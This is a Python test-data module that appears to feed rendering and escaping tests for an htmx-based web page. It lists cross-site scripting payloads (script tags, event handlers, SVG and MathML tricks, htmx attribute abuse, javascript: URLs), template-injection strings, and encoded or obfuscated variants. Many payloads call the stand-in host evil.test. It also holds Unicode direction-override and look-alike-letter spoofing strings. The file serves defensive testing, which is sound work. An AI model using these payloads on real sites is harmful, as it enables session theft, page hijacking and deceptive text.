"""Texts that would act, or spoil a page, if it took them for more than text (B-11, B-21).

Each of PAYLOADS tries to run code or to ask evil.test; each way in is tried after each way out of
the place where a text may stand: an element, an attribute, a textarea, a title, a comment, a
script. UNRULY does not act but tries to reorder, widen or disguise what stands around it.
"""

HOST = "evil.test"

WAYS_OUT = ("", '">', "'>", "</textarea>", "</title>", "-->", "</script>", "`}]}")

WAYS_IN = (
    f"<script>fetch('//{HOST}/')</script>",
    f"<script src=//{HOST}/x.js></script>",
    f"<img src=//{HOST}/i onerror=alert(1)>",
    f"<svg onload=alert(1)><use href='//{HOST}/s.svg#x'/></svg>",
    f"<svg><animate onbegin=alert(1) attributeName=x /><image href=//{HOST}/a /></svg>",
    f"<svg><foreignObject><iframe src=//{HOST}/fo></iframe></foreignObject></svg>",
    f"<math href=//{HOST}/m><mtext><img src=//{HOST}/mm onerror=alert(1)></mtext></math>",
    f"<math><annotation-xml encoding=text/html><script src=//{HOST}/an></script></math>",
    f"<iframe src=//{HOST}/></iframe>",
    f"<iframe srcdoc=\"<script src='//{HOST}/sd'></script>\"></iframe>",
    f"<object data=//{HOST}/o></object>",
    f"<embed src=//{HOST}/e>",
    f"<link rel=stylesheet href=//{HOST}/c.css>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/m'>",
    f"<base href=//{HOST}/>",
    f"<form action=//{HOST}/f><button autofocus>x</button></form>",
    f"<button form=call formaction=//{HOST}/fa data-key=Mod+Enter>x</button>",
    f"<div hx-get=//{HOST}/h hx-trigger=load></div>",
    f"<div data-hx-get=//{HOST}/d data-hx-trigger=load></div>",
    "<div hx-get=/calls/ hx-trigger=load hx-target=body></div>",
    "<div hx-post=/calls/1/comment/ hx-trigger='load, every 1s' hx-vals='{\"text\": 1}'></div>",
    "<div hx-on::load=alert(1)></div>",
    "<div hx-on:click=alert(1) data-hx-on:mouseover=alert(1)></div>",
    "<div id=log hx-swap-oob=true><b onclick=alert(1)>gone</b></div>",
    "<div hx-ext=x hx-trigger='load[alert(1)]' hx-vars='x:alert(1)' hx-get=/></div>",
    f"<div hx-boost=true><a href=//{HOST}/b data-key=c>x</a></div>",
    "<button data-key=c autofocus onfocus=alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<details open ontoggle=alert(1)></details>",
    "<a href=javascript:alert(1) data-key=n>x</a>",
    f"<video src=//{HOST}/v onloadstart=alert(1)></video>",
    f"<audio autoplay src=//{HOST}/au onerror=alert(1)></audio>",
    f"<style>@import '//{HOST}/a.css';*{{background:url(//{HOST}/b)}}</style>",
    "<template data-notice=lost><b onclick=alert(1)></b></template>",
    "<dialog open id=keys><form method=dialog onsubmit=alert(1)></form></dialog>",
    "<marquee onstart=alert(1) width=9999>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<plaintext>",
    "<!--[if true]><script>alert(1)</script><![endif]",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
)

ALONE = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://ok",
    " \tjava\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    f"//{HOST}/protocol-relative",
    f"https://{HOST}/link",
    "{{ 7|add:7 }}{% debug %}",
    "{% load static %}{{ request.user.password }}",
    "{# comment #}{% csrf_token %}",
    "${alert(1)}#{7*7}<%= 7*7 %>[[7*7]]",
    "%(name)s %s {0} {name} %n",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) '",
    "` onmouseover=alert(1) `",
    '" style="position:fixed;inset:0;z-index:9',
    "x' hx-get='/' hx-trigger='load' y='",
    'x" data-key="c" data-key-label="y',
    '"}\' hx-headers=\'{"x":"y"}',
    '\\"><img src=x onerror=alert(1)>',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;b&amp;gt; &copy &nbsp;|",
    "<<script>alert(1)//<</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<img\u2028src=x\u2029onerror=alert(1)>",
    "<b>\x01\x02\x1b[31m\x7f\x85</b>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "]]><script>alert(1)</script>",
)

PAYLOADS = [out + way for way in WAYS_IN for out in WAYS_OUT] + list(ALONE)

# Text that is only text, and yet would run over its place, or make its neighbours read otherwise.
UNRULY = (
    "\u202egnp.exe\u202c bold",
    "\u202e\u202e\u202e never closed",
    "\u2067right to left isolate\u2066 never closed",
    "\u200f\u200e marks \u061c",
    "\u0634\u0642\u0629 12B \u0645\u064a\u0627\u0647 \u062a\u062a\u0633\u0631\u0628 (3)",
    "\u05d3\u05d9\u05e8\u05d4 12B, \u05e0\u05d6\u05d9\u05dc\u05d4!",
    "\u0410n\u0430 de l\u0430 \u0421ruz",  # Cyrillic letters that look like Latin ones
    "zero\u200bwidth\u200c\u200d\u2060\ufeffspaces",
    "Z\u0334\u0341\u0301\u0308\u030a\u0353a\u0335\u0358\u0301\u0308l\u0336\u0313\u0301go",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3fd",
    "\ufdfd" * 20,
    "\U000e0041\U000e0042 tags \U000f0000 private",
    "W" * 90,
    "unbroken" + "/path" * 40,
    "\u00a0" * 60 + "far right",
    "tab\tand\r\nline\u2028separator\u2029paragraph\u0085next",
    "\u2588" * 80,
    "\u00ad" * 200 + "soft",
)
